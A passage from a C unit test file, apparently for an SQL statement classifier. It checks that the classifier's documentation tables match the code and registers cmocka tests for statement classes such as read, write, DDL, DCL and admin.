                }
            }
            if (!found)
                fail_msg("%s: documents %.*s%s, which the code's table lacks", AL_SQL_DOC, (int)nlen, nb,
                         star ? "*" : "");
            rows++;
        }
        line = eol + 1;
    }
    for (size_t i = 0; i < n; i++) {
        al__sql_table_entry(which, i, &name, &prefix, &cls);
        if (!seen[i])
            fail_msg("%s: %s%s (%s) is not documented under %s", AL_SQL_DOC, name, prefix ? "*" : "",
                     al_sql_class_name(cls), heading);
    }
    assert_int_equal(rows, n);
    free(seen);
}

static void test_doc_tables(void **state)
{
    size_t len = 0;
    char *doc = read_doc(&len);
    assert_true(len > 1000);
    check_doc_table(doc, "Side-effect functions", 0);
    check_doc_table(doc, "Settings", 1);
    /* the class order and the configurable default are stated */
    assert_non_null(strstr(doc, "read < write < ddl < dcl < admin < unknown"));
    assert_non_null(strstr(doc, "sql_default_function_class"));
    al_free(&doc);
    AL_UNUSED(state);
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(test_class_names),
        cmocka_unit_test_setup_teardown(test_read, setup, teardown),
        cmocka_unit_test_setup_teardown(test_write, setup, teardown),
        cmocka_unit_test_setup_teardown(test_ddl, setup, teardown),
        cmocka_unit_test_setup_teardown(test_dcl, setup, teardown),
        cmocka_unit_test_setup_teardown(test_admin, setup, teardown),
        cmocka_unit_test_setup_teardown(test_unknown, setup, teardown),
        cmocka_unit_test_setup_teardown(test_empty, setup, teardown),
        cmocka_unit_test_setup_teardown(test_multi_statement, setup, teardown),
        cmocka_unit_test_setup_teardown(test_tree_max, setup, teardown),
        cmocka_unit_test_setup_teardown(test_function_table_entries, setup, teardown),
        cmocka_unit_test_setup_teardown(test_function_table_named, setup, teardown),
        cmocka_unit_test_setup_teardown(test_default_function_class, setup, teardown),
        cmocka_unit_test_setup_teardown(test_copy, setup, teardown),
        cmocka_unit_test_setup_teardown(test_explain, setup, teardown),
        cmocka_unit_test_setup_teardown(test_prepare_execute, setup, teardown),
        cmocka_unit_test_setup_teardown(test_settings, setup, teardown),
        cmocka_unit_test_setup_teardown(test_lexical, setup, teardown),
        cmocka_unit_test_setup_teardown(test_nul, setup, teardown),
        cmocka_unit_test(test_max_text),
        cmocka_unit_test_setup_teardown(test_deep, setup, teardown),
        cmocka_unit_test_setup_teardown(test_tables, setup, teardown),
        cmocka_unit_test_setup_teardown(test_cte_scope, setup, teardown),
        cmocka_unit_test_setup_teardown(test_functions, setup, teardown),
        cmocka_unit_test_setup_teardown(test_schemas, setup, teardown),
        cmocka_unit_test(test_doc_tables),
    };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
